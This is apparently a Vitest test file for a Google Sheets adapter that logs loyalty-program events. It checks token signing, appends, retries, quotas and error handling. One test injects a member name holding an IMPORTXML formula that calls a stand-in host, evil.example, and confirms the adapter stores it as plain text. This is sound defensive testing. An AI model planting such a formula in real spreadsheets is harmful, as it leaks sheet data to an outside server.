/**
 * The `sheets` adapter against Google's documented shapes (tests/fixtures/platform-samples/sheets),
 * msw at the network edge: the service-account JWT (checked with the public key of a key pair made
 * here) and its token exchange and caching; `values:append` field by field for the shipped
 * points.earned, reward.redeemed and tier.upgraded mappings; formulas from member data kept as
 * text; a retried delivery that already landed not written twice; and — through a real dispatcher
 * — a 429 retried after its Retry-After and a 400 dead-lettered with Google's reason and
 * `delivery.failed`.
 */
import { dispatchHarness } from '../helpers/dispatch-harness.js';
import { switchedOn } from '../helpers/shipped-mappings.js';
import { verify } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { readFileSync } from 'node:fs';
import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { connectorStatus } from '../../core/connectors/definition.js';
import { adapterDescriptors, loadMappingFile, mappingActionsFor, sampleEvent, type Mapping } from '../../core/mappings/index.js';
import type { OutboundAdapter, SendContext } from '../../core/outbound/adapter.js';
import sheets from '../../connectors/sheets/index.js';
import { createSheetsAdapter } from '../../connectors/sheets/adapter.js';
import { columnLetter, neutralizeFormula } from '../../connectors/sheets/cells.js';
import { sheetsOptions, type SheetsOptions } from '../../connectors/sheets/options.js';
import { TOKEN_MARGIN_MS } from '../../connectors/sheets/token.js';
import { type TestLedger } from '../helpers/ledger-writes.js';
import { type TestClock } from '../helpers/test-store.js';
import { sheetsFixture as fixture, testServiceAccount } from './sheets-key.js';

const API = 'https://sheets.googleapis.com';
const TOKEN_URL = 'https://oauth2.googleapis.com/token';
const SPREADSHEET = '1qpyC0XzvTcKT6EISywvqESX3A0MwQoFDE8p-Bll4hps';
const ACCOUNT = testServiceAccount();
const CLIENT_EMAIL = 'loyalty-hub@loyalty-hub-sheets.iam.gserviceaccount.com';
const TOKEN = fixture('token-response');
const ACCESS_TOKEN = TOKEN.access_token as string;
const KEY = 'dlv_01JX4SHEETS';

const server = setupServer();
beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterEach(() => server.resetHandlers());
afterAll(() => server.close());

interface Captured {
  method: string;
  url: URL;
  headers: Headers;
  body: unknown;
}

type Answer = () => Response;

/** The token endpoint answers from `script` in order (the last repeats); every request recorded. */
function tokenEndpoint(url = TOKEN_URL, ...script: Answer[]): Captured[] {
  const seen: Captured[] = [];
  const answers = script.length ? script : [() => HttpResponse.json(TOKEN)];
  server.use(
    http.post(url, async ({ request }) => {
      seen.push({ method: request.method, url: new URL(request.url), headers: request.headers, body: await request.text() });
      return answers[Math.min(seen.length - 1, answers.length - 1)]!();
    }),
  );
  return seen;
}

const appended = () => HttpResponse.json(fixture('append-response'));

/** Every call to the Sheets API: appends answered from `appends`, column reads from `reads`. */
function sheetsApi(options: { base?: string; appends?: Answer[]; reads?: Answer[] } = {}): Captured[] {
  const seen: Captured[] = [];
  const appends = options.appends ?? [appended];
  const reads = options.reads ?? [() => HttpResponse.json(fixture('get-column-response'))];
  let a = 0;
  let r = 0;
  server.use(
    http.all(`${options.base ?? API}/v4/spreadsheets/*`, async ({ request }) => {
      const text = await request.text();
      seen.push({ method: request.method, url: new URL(request.url), headers: request.headers, body: text ? JSON.parse(text) : undefined });
      if (request.method === 'GET') return reads[Math.min(r++, reads.length - 1)]!();
      return appends[Math.min(a++, appends.length - 1)]!();
    }),
  );
  return seen;
}

/** The path as sent, undecoded: how the range is encoded is part of the request. */
const rawPath = (c: Captured) => c.url.pathname;

const ann = { id: 'mem_1', email: 'ann.lee@example.com', phone: null, consentEmail: true, consentSms: false, firstName: 'Ann', lastName: 'Lee' };

function context(overrides: Partial<SendContext> = {}): SendContext {
  return { idempotencyKey: KEY, attempt: 1, member: ann, timeZone: 'UTC', now: Date.UTC(2026, 0, 15, 12), signal: new AbortController().signal, ...overrides };
}

function adapter(json = ACCOUNT.json, apiUrl?: string): OutboundAdapter<SheetsOptions> {
  return createSheetsAdapter({ serviceAccount: json, ...(apiUrl ? { apiUrl } : {}) });
}

const options = (o: Record<string, unknown>): SheetsOptions => sheetsOptions.parse({ spreadsheetId: SPREADSHEET, sheet: 'Loyalty log', ...o });

/** The shipped mapping file with its switch turned on and a real spreadsheet id. */
const MAPPING_FILE = fileURLToPath(new URL('../../mappings/sheets-loyalty-log.yaml', import.meta.url));
function shippedMappings(): Mapping[] {
  return switchedOn(MAPPING_FILE, [sheets], [['REPLACE-with-your-spreadsheet-id-0000000000', SPREADSHEET]]);
}

async function sendShipped(type: 'points.earned' | 'reward.redeemed' | 'tier.upgraded', member = ann) {
  const [action, ...more] = mappingActionsFor(shippedMappings(), sampleEvent(type), { member });
  expect(more).toEqual([]);
  return adapter().send(sheetsOptions.parse(action!.options), context({ member }));
}

const APPEND_PATH = `/v4/spreadsheets/${SPREADSHEET}/values/'Loyalty%20log'!A1%3AI1:append`;

describe('sheets adapter: the requests', () => {
  it('points.earned (shipped mapping): a signed service-account JWT for a token, then values:append with the row and the delivery id', async () => {
    const tokens = tokenEndpoint();
    const calls = sheetsApi();
    const outcome = await sendShipped('points.earned');

    expect(outcome).toEqual({ status: 'delivered', statusCode: 200, providerMessageId: "'Loyalty log'!A42:I42" });
    expect(tokens).toHaveLength(1);
    expect(tokens[0]!.headers.get('content-type')).toBe('application/x-www-form-urlencoded');
    const form = new URLSearchParams(tokens[0]!.body as string);
    expect([...form.keys()]).toEqual(['grant_type', 'assertion']);
    expect(form.get('grant_type')).toBe('urn:ietf:params:oauth:grant-type:jwt-bearer');

    // Google's JWT format: base64url header and claims, RS256 over "<header>.<claims>".
    const [header, claims, signature] = form.get('assertion')!.split('.');
    expect(JSON.parse(Buffer.from(header!, 'base64url').toString())).toEqual({ alg: 'RS256', typ: 'JWT', kid: ACCOUNT.key.private_key_id });
    const iat = Math.floor(context().now / 1000);
    expect(JSON.parse(Buffer.from(claims!, 'base64url').toString())).toEqual({
      iss: CLIENT_EMAIL,
      scope: 'https://www.googleapis.com/auth/spreadsheets',
      aud: TOKEN_URL,
      iat,
      exp: iat + 3600,
    });
    expect(verify('sha256', Buffer.from(`${header}.${claims}`), ACCOUNT.publicKey, Buffer.from(signature!, 'base64url'))).toBe(true);

    expect(calls).toHaveLength(1);
    const [call] = calls;
    expect(call!.method).toBe('POST');
    expect(rawPath(call!)).toBe(APPEND_PATH);
    expect(Object.fromEntries(call!.url.searchParams)).toEqual({ valueInputOption: 'USER_ENTERED', insertDataOption: 'INSERT_ROWS' });
    expect(call!.headers.get('authorization')).toBe(`Bearer ${ACCESS_TOKEN}`);
    expect(call!.headers.get('content-type')).toBe('application/json; charset=UTF-8');
    expect(call!.body).toEqual({
      majorDimension: 'ROWS',
      values: [['2025-06-01 14:30:00', 'points earned', 'mem_1', 'ann.lee@example.com', '250', '5250', '', 'order.paid', KEY]], // an order's points.earned: its reason is the trigger (docs/mappings.md)
    });
  });

  it('reward.redeemed and tier.upgraded (shipped mappings): the same columns, points taken away as a negative number', async () => {
    tokenEndpoint();
    const calls = sheetsApi();
    expect((await sendShipped('reward.redeemed')).status).toBe('delivered');
    expect((await sendShipped('tier.upgraded')).status).toBe('delivered');
    expect(calls.map(rawPath)).toEqual([APPEND_PATH, APPEND_PATH]);
    expect(calls.map((c) => c.body)).toEqual([
      { majorDimension: 'ROWS', values: [['2025-06-01 14:30:00', 'reward redeemed', 'mem_1', 'ann.lee@example.com', '-5000', '250', '', 'Free coffee', KEY]] },
      { majorDimension: 'ROWS', values: [['2025-06-01 14:30:00', 'tier upgraded', 'mem_1', 'ann.lee@example.com', '', '', 'Gold', 'from Silver', KEY]] },
    ]);
  });

  it("sends Google's own append example's row as documented (majorDimension ROWS), with the delivery id after it", async () => {
    tokenEndpoint();
    const calls = sheetsApi();
    const sample = fixture('append-request') as { majorDimension: string; values: string[][] };
    await adapter().send(options({ sheet: 'Sheet1', columns: sample.values[0] }), context());
    expect(rawPath(calls[0]!)).toBe(`/v4/spreadsheets/${SPREADSHEET}/values/'Sheet1'!A1%3AE1:append`);
    expect(calls[0]!.body).toEqual({ majorDimension: sample.majorDimension, values: [[...sample.values[0]!, KEY]] });
  });

  it('quotes the tab name in the range, doubling an apostrophe, and encodes it in the path', async () => {
    tokenEndpoint();
    const calls = sheetsApi();
    await adapter().send(options({ sheet: "Ann's log / 2026", columns: ['1', '2'] }), context());
    expect(rawPath(calls[0]!)).toBe(`/v4/spreadsheets/${SPREADSHEET}/values/'Ann''s%20log%20%2F%202026'!A1%3AC1:append`);
    expect(decodeURIComponent(rawPath(calls[0]!))).toContain("/values/'Ann''s log / 2026'!A1:C1:append");
  });

  it('keeps a value from member data that would start a formula as text; numbers and the marketer\'s own formula stay as they are', async () => {
    tokenEndpoint();
    const calls = sheetsApi();
    const mallory = { ...ann, firstName: '=IMPORTXML("https://evil.example/?"&A1,"//a")', lastName: '+1 415 555 0123', email: '@SUM(1)' };
    const [action] = mappingActionsFor(
      [
        ...loadMappingFile(
          '/mappings/sheets-test.yaml',
          adapterDescriptors([sheets], {}).adapters,
          [
            '- name: sheets-test',
            '  on: points.reversed',
            '  send:',
            '    adapter: sheets',
            `    spreadsheetId: "${SPREADSHEET}"`,
            '    sheet: "Loyalty log"',
            '    columns:',
            '      - "{{ member.firstName }}"',
            '      - "{{ member.lastName }}"',
            '      - "{{ member.email }}"',
            '      - "-{{ points }}"',
            '      - "{{ balance.available }}"',
            '      - "{{ reason }}"',
            '      - formula: \'=HYPERLINK("https://admin.example.com/members/{{ member.id }}", "open")\'',
            '',
          ].join('\n'),
        ).mappings,
      ],
      sampleEvent('points.reversed'),
      { member: mallory },
    );
    expect((await adapter().send(sheetsOptions.parse(action!.options), context({ member: mallory }))).status).toBe('delivered');
    expect(calls[0]!.body).toEqual({
      majorDimension: 'ROWS',
      values: [
        [
          '\'=IMPORTXML("https://evil.example/?"&A1,"//a")',
          "'+1 415 555 0123",
          "'@SUM(1)",
          '-250',
          '5250',
          'order refunded',
          '=HYPERLINK("https://admin.example.com/members/mem_1", "open")',
          KEY,
        ],
      ],
    });
  });

  it('neutralizes every formula start, and only those', () => {
    expect(['=1+1', '+1', '-x', '@A1', ' =1', '\t=1', '\r1', "'quoted"].map(neutralizeFormula)).toEqual(["'=1+1", "'+1", "'-x", "'@A1", "' =1", "'\t=1", "'\r1", "''quoted"]);
    expect(['-500', '-12.5', '250', 'Ann', 'a=b', '2025-06-01 14:30:00', ''].map(neutralizeFormula)).toEqual(['-500', '-12.5', '250', 'Ann', 'a=b', '2025-06-01 14:30:00', '']);
    expect([0, 8, 25, 26, 51, 701, 702].map(columnLetter)).toEqual(['A', 'I', 'Z', 'AA', 'AZ', 'ZZ', 'AAA']);
  });

  it('keeps the token until expires_in minus a margin, then signs a new assertion', async () => {
    const tokens = tokenEndpoint();
    const calls = sheetsApi();
    const a = adapter();
    const o = options({ columns: ['1'] });
    const t0 = context().now;
    await a.send(o, context({ now: t0 }));
    await a.send(o, context({ now: t0 + 3600_000 - TOKEN_MARGIN_MS - 1 }));
    expect(tokens).toHaveLength(1);
    await a.send(o, context({ now: t0 + 3600_000 - TOKEN_MARGIN_MS }));
    expect(tokens).toHaveLength(2);
    expect(new URLSearchParams(tokens[1]!.body as string).get('assertion')).not.toBe(new URLSearchParams(tokens[0]!.body as string).get('assertion'));
    expect(calls).toHaveLength(3);
  });

  it('asks for one token when several sends start together', async () => {
    const tokens = tokenEndpoint();
    sheetsApi();
    const a = adapter();
    const o = options({ columns: ['1'] });
    const outcomes = await Promise.all([a.send(o, context()), a.send(o, context()), a.send(o, context())]);
    expect(outcomes.map((x) => x.status)).toEqual(['delivered', 'delivered', 'delivered']);
    expect(tokens).toHaveLength(1);
  });

  it('drops a token the API refuses (401), fetches a new one and appends once more', async () => {
    const tokens = tokenEndpoint(TOKEN_URL, () => HttpResponse.json({ ...TOKEN, access_token: 'revoked' }), () => HttpResponse.json(TOKEN));
    const calls = sheetsApi({ appends: [() => HttpResponse.json({ error: { code: 401, message: 'Request had invalid authentication credentials.', status: 'UNAUTHENTICATED' } }, { status: 401 }), appended] });
    expect((await adapter().send(options({ columns: ['1'] }), context())).status).toBe('delivered');
    expect(tokens).toHaveLength(2);
    expect(calls.map((c) => c.headers.get('authorization'))).toEqual(['Bearer revoked', `Bearer ${ACCESS_TOKEN}`]);
  });

  it('a retried attempt reads the delivery id column first: a row already there is not written again', async () => {
    tokenEndpoint();
    const calls = sheetsApi({ reads: [() => HttpResponse.json({ ...fixture('get-column-response'), values: [['Delivery id', 'dlv_01JX4EARLIER', KEY]] })] });
    const outcome = await adapter().send(options({ columns: ['a', 'b'] }), context({ attempt: 2 }));
    expect(outcome).toEqual({ status: 'delivered', statusCode: 200 });
    expect(calls).toHaveLength(1);
    expect(calls[0]!.method).toBe('GET');
    expect(rawPath(calls[0]!)).toBe(`/v4/spreadsheets/${SPREADSHEET}/values/'Loyalty%20log'!C%3AC`);
    expect(Object.fromEntries(calls[0]!.url.searchParams)).toEqual({ majorDimension: 'COLUMNS' });
  });

  it('a retried attempt whose row is not in the column (or the column is empty) appends it', async () => {
    tokenEndpoint();
    const calls = sheetsApi({ reads: [() => HttpResponse.json(fixture('get-column-response')), () => HttpResponse.json({ range: "'Loyalty log'!C1:C1000", majorDimension: 'COLUMNS' })] });
    const a = adapter();
    expect((await a.send(options({ columns: ['a', 'b'] }), context({ attempt: 2 }))).status).toBe('delivered');
    expect((await a.send(options({ columns: ['a', 'b'] }), context({ attempt: 3 }))).status).toBe('delivered');
    expect(calls.map((c) => c.method)).toEqual(['GET', 'POST', 'GET', 'POST']);
  });

  it('takes the spreadsheet\'s whole address as its id', () => {
    expect(options({ spreadsheetId: `https://docs.google.com/spreadsheets/d/${SPREADSHEET}/edit#gid=0`, columns: ['1'] }).spreadsheetId).toBe(SPREADSHEET);
  });

  it('honours SHEETS_API_URL, the key\'s token_uri, and a key given as a file path', async () => {
    const custom = testServiceAccount({ token_uri: 'http://google-token.test/token' });
    const dir = mkdtempSync(join(tmpdir(), 'sheets-key-'));
    const path = join(dir, 'key.json');
    writeFileSync(path, custom.json);
    const tokens = tokenEndpoint('http://google-token.test/token');
    const calls = sheetsApi({ base: 'http://sheets.test' });
    const a = sheets.createAdapter!({ GOOGLE_SERVICE_ACCOUNT_JSON: `  ${path}\n`, SHEETS_API_URL: 'http://sheets.test/' });
    expect((await a.send(options({ columns: ['1'] }), context())).status).toBe('delivered');
    expect([tokens.length, calls.length]).toEqual([1, 1]);
    const claims = JSON.parse(Buffer.from(new URLSearchParams(tokens[0]!.body as string).get('assertion')!.split('.')[1]!, 'base64url').toString()) as Record<string, unknown>;
    expect(claims.aud).toBe('http://google-token.test/token');
  });
});

describe('sheets adapter: answers', () => {
  const o = options({ columns: ['1', '2', '3', '4', '5', '6', '7', '8'] });

  it("400 (a tab that does not exist) is final, with Google's status and message", async () => {
    tokenEndpoint();
    sheetsApi({ appends: [() => HttpResponse.json(fixture('error-response'), { status: 400 })] });
    expect(await adapter().send(o, context())).toEqual({ status: 'permanent', statusCode: 400, error: "sheets: HTTP 400 INVALID_ARGUMENT: Unable to parse range: 'Loyalty log'!A1:I1" });
  });

  it('403 (the sheet is not shared with the service account) is final and says whom to share it with', async () => {
    tokenEndpoint();
    sheetsApi({ appends: [() => HttpResponse.json(fixture('permission-denied-response'), { status: 403 })] });
    expect(await adapter().send(o, context())).toEqual({
      status: 'permanent',
      statusCode: 403,
      error: `sheets: HTTP 403 PERMISSION_DENIED: The caller does not have permission (share the spreadsheet with ${CLIENT_EMAIL} as Editor)`,
    });
  });

  it('masks an e-mail address Google quotes in its reason', async () => {
    tokenEndpoint();
    sheetsApi({ appends: [() => HttpResponse.json({ error: { code: 400, message: 'Invalid value at ann.lee@example.com', status: 'INVALID_ARGUMENT' } }, { status: 400 })] });
    expect(await adapter().send(o, context())).toMatchObject({ status: 'permanent', error: 'sheets: HTTP 400 INVALID_ARGUMENT: Invalid value at a***@e***.com' });
  });

  it('429 is retried after Retry-After, and holds the sends that follow until then without calling', async () => {
    tokenEndpoint();
    const calls = sheetsApi({ appends: [() => HttpResponse.json(fixture('quota-exceeded-response'), { status: 429, headers: { 'Retry-After': '7' } }), appended] });
    const a = adapter();
    const now = context().now;
    expect(await a.send(o, context({ now }))).toMatchObject({ status: 'retry', statusCode: 429, retryAfterMs: 7000, error: expect.stringMatching(/^sheets: HTTP 429 RESOURCE_EXHAUSTED: Quota exceeded/) });
    expect(await a.send(o, context({ now: now + 1000 }))).toMatchObject({ status: 'deferred', until: now + 7000 });
    expect(calls).toHaveLength(1);
    expect((await a.send(o, context({ now: now + 7000 }))).status).toBe('delivered');
  });

  it('keeps to 60 writes a minute (the per-user quota): the 61st waits for the window', async () => {
    tokenEndpoint();
    const calls = sheetsApi();
    const a = adapter();
    const now = context().now;
    for (let i = 0; i < 60; i++) expect((await a.send(o, context({ now }))).status).toBe('delivered');
    expect(await a.send(o, context({ now: now + 1000 }))).toMatchObject({ status: 'deferred', until: now + 60_000, reason: 'sheets: Google Sheets allows 60 requests per minute' });
    expect(calls).toHaveLength(60);
  });

  it('5xx and an unreachable host are retried', async () => {
    tokenEndpoint();
    sheetsApi({ appends: [() => HttpResponse.json({ error: { code: 503, message: 'The service is currently unavailable.', status: 'UNAVAILABLE' } }, { status: 503 }), () => HttpResponse.error()] });
    const a = adapter();
    expect(await a.send(o, context())).toMatchObject({ status: 'retry', statusCode: 503, error: 'sheets: HTTP 503 UNAVAILABLE: The service is currently unavailable.' });
    expect(await a.send(o, context())).toMatchObject({ status: 'retry', error: expect.stringMatching(/^sheets: request failed/) });
  });

  it('a key the token endpoint refuses is final and names the variable; its 5xx is retried', async () => {
    tokenEndpoint(TOKEN_URL, () => HttpResponse.json(fixture('token-error-response'), { status: 400 }));
    const calls = sheetsApi();
    const outcome = await adapter().send(o, context());
    expect(outcome).toMatchObject({ status: 'permanent', statusCode: 400 });
    expect(outcome.status === 'permanent' && outcome.error).toBe(
      'sheets: token endpoint answered HTTP 400 invalid_grant: Invalid JWT Signature. (check GOOGLE_SERVICE_ACCOUNT_JSON: a key deleted in the Cloud console, or a disabled service account, is refused)',
    );
    expect(calls).toHaveLength(0);

    tokenEndpoint(TOKEN_URL, () => new HttpResponse('upstream', { status: 503, headers: { 'Retry-After': '3' } }));
    expect(await adapter().send(o, context())).toMatchObject({ status: 'retry', statusCode: 503, retryAfterMs: 3000 });
  });

  it('a GOOGLE_SERVICE_ACCOUNT_JSON it cannot use is a final error naming the variable, never quoting the key, with no call made', async () => {
    const tokens = tokenEndpoint();
    const calls = sheetsApi();
    const broken = ACCOUNT.json.slice(0, 200); // JSON cut off inside the private key
    const cases: [string, string][] = [
      ['', 'sheets: GOOGLE_SERVICE_ACCOUNT_JSON is empty: give the key file\'s JSON or the path to the file'],
      ['/nonexistent/key.json', 'sheets: GOOGLE_SERVICE_ACCOUNT_JSON is not JSON (it does not start with "{"), and the file it names could not be read (ENOENT)'],
      [broken, 'sheets: GOOGLE_SERVICE_ACCOUNT_JSON: its value is not valid JSON (download the key again: IAM & Admin → Service Accounts → Keys → Add key → JSON)'],
      [JSON.stringify({ ...ACCOUNT.key, type: 'authorized_user' }), 'sheets: GOOGLE_SERVICE_ACCOUNT_JSON: its value is not a service account key (its "type" is not "service_account")'],
      [JSON.stringify({ ...ACCOUNT.key, private_key: '-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n' }), 'sheets: GOOGLE_SERVICE_ACCOUNT_JSON: the "private_key" of its value is not a readable PEM key'],
      [JSON.stringify({ ...ACCOUNT.key, client_email: undefined }), 'sheets: GOOGLE_SERVICE_ACCOUNT_JSON: its value has no "client_email"'],
    ];
    for (const [value, error] of cases) {
      const outcome = await adapter(value).send(o, context());
      expect(outcome).toEqual({ status: 'permanent', error });
      expect(JSON.stringify(outcome)).not.toContain('PRIVATE KEY');
      expect(JSON.stringify(outcome)).not.toContain(broken.slice(20, 60));
    }
    expect([tokens.length, calls.length]).toEqual([0, 0]);
  });

  it('answers retry without calling when the delivery is already aborted', async () => {
    const tokens = tokenEndpoint();
    const controller = new AbortController();
    controller.abort();
    expect(await adapter().send(o, context({ signal: controller.signal }))).toEqual({ status: 'retry', error: 'sheets: aborted' });
    expect(tokens).toHaveLength(0);
  });
});

describe('sheets adapter: options and variables', () => {
  it('refuses what Sheets would: no id, no tab, no columns, too many, a formula without "=", a typo', () => {
    const ok = { spreadsheetId: SPREADSHEET, sheet: 'Loyalty log', columns: ['{{ points }}'] };
    expect(sheetsOptions.safeParse(ok).success).toBe(true);
    expect(sheetsOptions.safeParse({ ...ok, spreadsheetId: 'short' }).success).toBe(false);
    expect(sheetsOptions.safeParse({ ...ok, sheet: ' ' }).success).toBe(false);
    expect(sheetsOptions.safeParse({ ...ok, sheet: 'a\nb' }).success).toBe(false);
    expect(sheetsOptions.safeParse({ ...ok, columns: [] }).success).toBe(false);
    expect(sheetsOptions.safeParse({ ...ok, columns: Array.from({ length: 26 }, () => 'x') }).success).toBe(false);
    expect(sheetsOptions.safeParse({ ...ok, columns: [{ formula: 'SUM(A:A)' }] }).success).toBe(false);
    expect(sheetsOptions.safeParse({ ...ok, colums: ['x'] }).success).toBe(false);
  });

  it('mappings check names the file, line and reason of a refused action', () => {
    const text = ['- name: sheets-bad', '  on: points.earned', '  send:', '    adapter: sheets', '    spreadsheetId: "not-an-id"', '    sheet: "Loyalty log"', '    columns: ["{{ points }}"]', ''].join('\n');
    const { adapters } = adapterDescriptors([sheets], {});
    const { problems } = loadMappingFile('/mappings/sheets-bad.yaml', adapters, text);
    expect(problems).toEqual([
      {
        file: '/mappings/sheets-bad.yaml',
        line: 5,
        path: '[0].send.spreadsheetId',
        reason: "sheets: a spreadsheet id: the long code between /d/ and /edit in the sheet's address (or that whole address)",
      },
    ]);
  });

  it('the shipped mapping is off: as shipped, no event writes a row', () => {
    const { adapters } = adapterDescriptors([sheets], {});
    const { mappings, problems } = loadMappingFile(MAPPING_FILE, adapters, readFileSync(MAPPING_FILE, 'utf8'));
    expect(problems).toEqual([]);
    expect(mappings.map((m) => m.on)).toEqual(['points.earned', 'reward.redeemed', 'tier.upgraded', 'tier.downgraded']);
    for (const type of ['points.earned', 'reward.redeemed', 'tier.upgraded', 'tier.downgraded'] as const) {
      expect(mappingActionsFor(mappings, sampleEvent(type), { member: ann })).toEqual([]);
    }
  });

  it('is described without secrets, as mappings check does', () => {
    const { adapters, unavailable } = adapterDescriptors([sheets], {});
    expect(unavailable).toEqual([]);
    expect(adapters.get('sheets')?.options).toBe(sheetsOptions);
  });

  it('is disabled until GOOGLE_SERVICE_ACCOUNT_JSON is set, which is marked secret', () => {
    expect(connectorStatus(sheets, {})).toMatchObject({ enabled: false, missing: ['GOOGLE_SERVICE_ACCOUNT_JSON'] });
    expect(connectorStatus(sheets, { GOOGLE_SERVICE_ACCOUNT_JSON: ACCOUNT.json })).toMatchObject({ enabled: true, missing: [] });
    expect(sheets.config.filter((v) => v.secret).map((v) => v.env)).toEqual(['GOOGLE_SERVICE_ACCOUNT_JSON']);
  });
});

describe('sheets adapter through the dispatcher (shipped mapping, switched on)', () => {
  const h = dispatchHarness('sheets', shippedMappings(), () => sheets.createAdapter!({ GOOGLE_SERVICE_ACCOUNT_JSON: ACCOUNT.json }));
  let clock: TestClock;
  let ledger: TestLedger;
  let memberId: string;
  beforeEach(() => void ({ clock, ledger, memberId } = h));
  const { dispatcher, deliveries, eventsOf } = h;

  it('a 429 with Retry-After: 7 is sent again exactly 7 s later (after checking the row is not there), and delivered', async () => {
    tokenEndpoint();
    const calls = sheetsApi({ appends: [() => HttpResponse.json(fixture('quota-exceeded-response'), { status: 429, headers: { 'Retry-After': '7' } }), appended] });
    await ledger.earn({ memberId, points: 40, idempotencyKey: 'e1', why: { source: 'api' } });
    const d = dispatcher();
    expect(await d.runOnce()).toEqual({ routed: 1, attempted: 1 });
    clock.advance(6_999);
    expect((await d.runOnce()).attempted).toBe(0);
    clock.advance(1);
    expect((await d.runOnce()).attempted).toBe(1);
    expect(calls.map((c) => c.method)).toEqual(['POST', 'GET', 'POST']);
    const [delivery] = await deliveries();
    expect(delivery).toMatchObject({ status: 'delivered', attempts: 2 });
    const row = (calls[2]!.body as { values: string[][] }).values[0]!;
    expect(row.slice(1, 6)).toEqual(['points earned', memberId, 'ann.lee@example.com', '40', '40']);
    expect(row[8]).toBe(delivery!.id);
    expect(calls[0]!.body).toEqual(calls[2]!.body);
  });

  it('a row that landed although the answer was a 503 is found on the retry and not written twice', async () => {
    tokenEndpoint();
    const landed: { id?: string } = {};
    const calls = sheetsApi({
      appends: [() => HttpResponse.json({ error: { code: 503, message: 'The service is currently unavailable.', status: 'UNAVAILABLE' } }, { status: 503 })],
      reads: [() => HttpResponse.json({ range: "'Loyalty log'!I1:I1000", majorDimension: 'COLUMNS', values: [['Delivery id', landed.id]] })],
    });
    await ledger.earn({ memberId, points: 40, idempotencyKey: 'e1', why: { source: 'api' } });
    const d = dispatcher();
    await d.runOnce();
    landed.id = (calls[0]!.body as { values: string[][] }).values[0]![8];
    clock.advance(60_000);
    await d.runOnce();
    expect(calls.map((c) => c.method)).toEqual(['POST', 'GET']);
    expect((await deliveries())[0]).toMatchObject({ status: 'delivered', attempts: 2 });
  });

  it("a 400 is dead-lettered at once with Google's reason, and delivery.failed says so", async () => {
    tokenEndpoint();
    const calls = sheetsApi({ appends: [() => HttpResponse.json(fixture('error-response'), { status: 400 })] });
    await ledger.earn({ memberId, points: 40, idempotencyKey: 'e1', why: { source: 'api' } });
    const d = dispatcher();
    await d.runOnce();
    clock.advance(24 * 3_600_000);
    await d.runOnce();
    expect(calls).toHaveLength(1);
    const [delivery] = await deliveries();
    expect(delivery).toMatchObject({ status: 'dead', attempts: 1, lastStatusCode: 400 });
    expect(delivery!.lastError).toBe("sheets: HTTP 400 INVALID_ARGUMENT: Unable to parse range: 'Loyalty log'!A1:I1");
    const [failed] = await eventsOf('delivery.failed');
    expect(JSON.parse(failed!.data)).toMatchObject({ deliveryId: delivery!.id, adapter: 'sheets', attempts: 1, statusCode: 400, error: delivery!.lastError });
  });
});
